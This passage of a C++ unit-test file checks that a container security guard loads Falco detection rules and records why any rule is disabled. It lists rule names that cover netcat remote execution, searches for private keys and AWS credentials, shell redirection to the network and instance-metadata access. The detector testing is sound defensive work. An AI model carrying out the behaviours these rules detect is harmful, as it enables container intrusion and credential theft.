  EXPECT_FALSE(rs->needs.open_reads) << "the defaults must not make every open stop";
  EXPECT_FALSE(rs->needs.dup_any_fd);
  EXPECT_TRUE(rs->needs.drift);
  EXPECT_FALSE(rs->info("Read sensitive file untrusted")->enabled);
  EXPECT_NE(rs->info("Read sensitive file untrusted")->reason.find("enabled: false"),
            std::string::npos);
}

std::string corpus_dir() {
  const char* c = std::getenv("ECSGUARD_CORPUS");
  return c == nullptr ? "" : std::string(c) + "/falco";
}

std::string slurp(const std::string& p) {
  std::ifstream in(p);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

TEST(GuardFalcoCorpus, UpstreamRuleFilesLoadWithReasonsForEveryDisabledRule) {
  std::string dir = corpus_dir();
  if (dir.empty() || !std::filesystem::exists(dir + "/falco_rules.yaml")) {
    GTEST_SKIP() << "ECSGUARD_CORPUS not set or without falco/";
  }
  auto rs =
      load_rules({{"falco_rules.yaml", slurp(dir + "/falco_rules.yaml")},
                  {"falco-incubating_rules.yaml", slurp(dir + "/falco-incubating_rules.yaml")},
                  {"falco-sandbox_rules.yaml", slurp(dir + "/falco-sandbox_rules.yaml")}});
  for (const auto& d : rs->diagnostics) {
    EXPECT_NE(d.level, Diagnostic::Level::kError)
        << d.file << ":" << d.line << " " << d.item << ": " << d.message;
  }
  EXPECT_EQ(rs->infos.size(), 93U);
  for (const auto& i : rs->infos) {
    if (!i.enabled) {
      EXPECT_FALSE(i.reason.empty()) << i.name;
    }
  }
  // RUNTIME.md §5.3: the rules worth shipping for a Fargate task are enabled.
  for (const char* name :
       {"Terminal shell in container", "Run shell untrusted",
        "Netcat Remote Code Execution in Container", "Search Private Keys or Passwords",
        "Find AWS Credentials", "Execution from /dev/shm", "Fileless execution via memfd_create",
        "Drop and execute new binary in container",
        "Launch Package Management Process in Container",
        "Launch Suspicious Network Tool in Container", "Launch Remote File Copy Tools in Container",
        "Read sensitive file untrusted", "Write below binary dir", "Write below etc",
        "Modify binary dirs", "Clear Log Activities", "PTRACE attached to process",
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "Contact EC2 Instance Metadata Service From Container"}) {
    const RuleInfo* i = rs->info(name);
    ASSERT_NE(i, nullptr) << name;
    EXPECT_TRUE(i->enabled) << name << ": " << i->reason;
  }
  // Disabled by the files themselves, or for a reason the guard states.
  EXPECT_NE(rs->info("Java Process Class File Download")->reason.find("evt.buffer"),
            std::string::npos);
  EXPECT_NE(rs->info("Launch Sensitive Mount Container")->reason.find("container.mount.dest"),
            std::string::npos);
  EXPECT_NE(rs->info("Detect outbound connections to common miner pool ports")
                ->reason.find("enabled: false"),
            std::string::npos);
  // Read rules make opens stop; dup rules without a newfd test make every dup2 stop.
  EXPECT_TRUE(rs->needs.open_reads);
  EXPECT_TRUE(rs->needs.events.test(evt_index(EvtType::kConnect)));
}

TEST(GuardFalcoCorpus, StableRulesAloneAllEnabled) {
  std::string dir = corpus_dir();
  if (dir.empty() || !std::filesystem::exists(dir + "/falco_rules.yaml")) {
    GTEST_SKIP() << "ECSGUARD_CORPUS not set or without falco/";
  }
  auto rs = load_rules({{"falco_rules.yaml", slurp(dir + "/falco_rules.yaml")}});
  EXPECT_FALSE(rs->has_errors());
  EXPECT_EQ(rs->infos.size(), 25U);
  for (const auto& i : rs->infos) EXPECT_TRUE(i.enabled) << i.name << ": " << i.reason;
}

}  // namespace
}  // namespace ecsguard::guard
